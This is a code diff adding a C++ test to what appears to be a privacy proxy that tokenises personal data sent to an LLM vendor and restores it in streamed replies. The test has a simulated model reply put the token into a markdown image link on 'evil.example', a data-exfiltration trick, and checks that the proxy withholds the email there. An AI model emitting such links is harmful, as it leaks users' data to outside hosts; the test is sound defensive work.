@@ -156,5 +156,35 @@ TEST(Actions, InEqualStreamsOneCallerSeesTheNameAndAnotherTheToken) {
   EXPECT_EQ(denied->count, 1U);
 }
 
+// A token in the name of a host is a way out. It stays at every cut over events, and the record
+// says why; what stands behind it comes back.
+TEST(Actions, AValueIsNotPutIntoTheNameOfAHost) {
+  World world;
+  size_t piece = 1;
+  world.vendor->answer = [&](VendorConnection& c, const std::string& request) {
+    const std::string token = content_of(request).substr(5);
+    const std::string text = "![x](//a/) " + token + ".evil.example/x.png " + token;
+    std::string events;
+    for (size_t at = 0; at < text.size(); at += piece) events += delta(text.substr(at, piece));
+    c.peer->write(kStreamHead + chunk(events + last_events()) + "0\r\n\r\n");
+  };
+  TlsPeer& client = world.open_client();
+  const std::string body = chat("mail ann@example.com", R"(,"stream":true)");
+  for (piece = 1; piece < 60; piece += 1 + piece / 3) {
+    const HttpAnswer answer = world.ask(client, post(body));
+    const std::string token = content_of(world.vendor->requests.back()).substr(5);
+    EXPECT_EQ(streamed_text(answer.body),
+              "![x](//a/) " + token + ".evil.example/x.png ann@example.com");
+    const auto& tallies = world.records().back().tallies;
+    const auto denied = std::find_if(tallies.begin(), tallies.end(), [](const auto& tally) {
+      return tally.section == static_cast<uint8_t>(TallySection::RestorationDenied);
+    });
+    ASSERT_NE(denied, tallies.end());
+    EXPECT_EQ(denied->name.view(), "EMAIL_ADDRESS");
+    EXPECT_EQ(denied->reason.view(), "followed_place");
+    EXPECT_EQ(denied->count, 1U);
+  }
+}
+
 }  // namespace
 }  // namespace sallyport::sim
